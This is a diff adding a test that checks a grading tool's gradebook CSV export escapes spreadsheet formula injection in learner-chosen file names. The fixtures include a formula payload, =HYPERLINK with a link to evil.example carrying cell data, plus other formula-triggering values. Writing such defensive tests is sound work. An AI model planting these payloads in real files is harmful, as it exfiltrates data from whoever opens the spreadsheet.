@@ -166,6 +166,20 @@ describe('grading parts', () => {
       expect(csv[3]).to.equal('b.ipynb,0,1,1,3,');
     });
 
+    it('CSV: a submission name or problem that a spreadsheet would run as a formula is written as text (CSV injection)', () => {
+      // learners name their own files: "=HYPERLINK(…)" or "@SUM(…)" would become live formulas when the instructor opens
+      // gradebook.csv in LibreOffice or Excel; a leading ' makes them text (OWASP's advice), other fields stay as they were
+      const csv = gradebookCsv([
+        grade('=HYPERLINK("http://evil.example/?"&A1,"open me").ipynb'), grade('+1+1.ipynb'), grade('@SUM(A1).ipynb', '-2+3'),
+        grade('\t=1+2.ipynb'), grade('-notes.ipynb'),
+      ]).trim().split('\n');
+      const first = csv.slice(1).map((row) => row.replace(/^"/, ''));
+      for (const cell of first) expect(cell[0], cell).to.equal("'");
+      expect(csv.find((r) => r.includes('@SUM'))).to.match(/,'-2\+3$/);
+      expect(csv.find((r) => r.includes('HYPERLINK'))).to.equal(`"'=HYPERLINK(""http://evil.example/?""&A1,""open me"").ipynb",0,1,1,3,`);
+      expect(gradebookCsv([grade('b.ipynb')]).trim().split('\n')[1]).to.equal('b.ipynb,0,1,1,3,');
+    });
+
     it('Markdown: totals, every check with its reason and the known mistake, escaped table cells, the output', () => {
       const md = submissionReport(grade('s.ipynb'));
       expect(md).to.contain('**Total: 1 / 3**');
